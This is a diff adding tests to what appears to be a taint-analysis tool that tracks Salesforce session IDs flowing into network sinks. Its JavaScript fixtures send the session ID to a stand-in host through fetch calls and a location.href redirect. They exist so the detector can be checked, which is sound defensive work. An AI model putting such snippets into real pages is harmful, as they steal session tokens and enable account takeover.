@@ -1070,3 +1070,23 @@ def test_a_component_followed_only_for_its_module_calls_is_walked_where_it_calls
     assert unit.modules_only
     [part] = walked_parts(unit, parse_script(code))
     assert code[part.start_byte:part.end_byte].startswith(b"async go()")
+
+
+# -- functions called where they are written ------------------------------------------------------
+def test_a_function_called_where_it_is_written_gets_its_arguments() -> None:
+    ir = lower(SID + "(function (s) { fetch('https://x.example.com/?sid=' + s); })(sid);")
+    assert uses(ir) == [("fetch", "https://x.example.com/?sid={sforce.connection.sessionId}", True)]
+
+
+def test_a_function_called_where_it_is_written_is_followed_in_every_call_of_the_function_around_it() -> None:
+    """The inner function's second run, with the same (no) arguments, is not run again
+    (`calls.invoke` remembers it); the walk as written then follows it with the session the outer
+    call holds."""
+    ir = lower("function send(x) { (function () { fetch('https://x.example.com/?s=' + x); })(); }\n"
+               "send('a');\nsend(sforce.connection.sessionId);")
+    assert [(sink, in_query) for sink, _, in_query in uses(ir)] == [("fetch", True)]
+
+
+def test_an_arrow_function_called_where_it_is_written_returns_what_it_is_given() -> None:
+    ir = lower(SID + "var t = ((s) => s + '!')(sid);\nlocation.href = 'https://x.example.com/?t=' + t;")
+    assert [(sink, in_query) for sink, _, in_query in uses(ir)] == [("window.location", True)]
